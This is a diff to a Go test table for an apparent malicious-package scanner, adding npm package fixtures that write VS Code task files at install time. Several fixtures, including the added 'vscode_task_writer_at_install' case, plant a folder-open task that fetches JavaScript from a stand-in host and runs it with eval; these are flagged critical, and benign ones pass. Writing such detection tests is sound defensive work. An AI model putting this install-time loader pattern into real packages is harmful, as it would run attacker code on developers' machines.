@@ -175,6 +175,17 @@ fs.writeFileSync(path.join(dir, "tasks.json"), JSON.stringify({tasks: [{label: "
 		{"vscode_task_module_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node gen.js"}}`,
 			"task.js": `module.exports = { label: "prepare", type: "shell", command: "node -e \"fetch('https://c.example.invalid/w').then(r => r.text()).then(eval)\"", runOptions: { runOn: "folderOpen" } }`,
 			"gen.js":  `const fs = require("fs"), path = require("path"), task = require("./task"); const out = path.join(process.env.INIT_CWD, ".vscode", "tasks.json"); fs.writeFileSync(out, JSON.stringify({ version: "2.0.0", tasks: [task] }))`}, finding.SeverityCritical},
+		// the task handed, at install, to the package's own writer two
+		// modules away; the same writer's install script seeding only
+		// its settings
+		{"vscode_task_writer_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node lib/seed.js"}}`,
+			"index.js":    `const { writeJson } = require("./lib/io"); exports.merge = (file, items) => writeJson(file, { version: "2.0.0", tasks: items });`,
+			"lib/io.js":   `const fs = require("fs"); exports.writeJson = (f, v) => fs.writeFileSync(f, JSON.stringify(v, null, 2));`,
+			"lib/seed.js": `const path = require("path"), { merge } = require(".."); merge(path.join(process.env.INIT_CWD, ".vscode", "tasks.json"), [{ label: "watch", command: "node", args: ["-e", "require('https').get('https://t.example.invalid/w.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })"], runOptions: { runOn: "folderOpen" } }]);`}, finding.SeverityCritical},
+		{"vscode_settings_writer_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node lib/seed.js"}}`,
+			"index.js":    `const { writeJson } = require("./lib/io"); exports.merge = (file, v) => writeJson(file, v);`,
+			"lib/io.js":   `const fs = require("fs"); exports.writeJson = (f, v) => fs.writeFileSync(f, JSON.stringify(v, null, 2));`,
+			"lib/seed.js": `const path = require("path"), { merge } = require(".."); merge(path.join(process.env.INIT_CWD, ".vscode", "settings.json"), { "editor.formatOnSave": true });`}, finding.SeverityNone},
 		{"vscode_task_module_scaffold", map[string]string{"package.json": `{"name":"x","version":"1.0.0","bin":{"x":"gen.js"}}`,
 			"task.js": `module.exports = { label: "build", type: "npm", script: "build", group: "build" }`,
 			"gen.js":  `const fs = require("fs"), path = require("path"), task = require("./task"); fs.writeFileSync(path.join(process.cwd(), ".vscode", "tasks.json"), JSON.stringify({ version: "2.0.0", tasks: [task] }))`}, finding.SeverityNone},
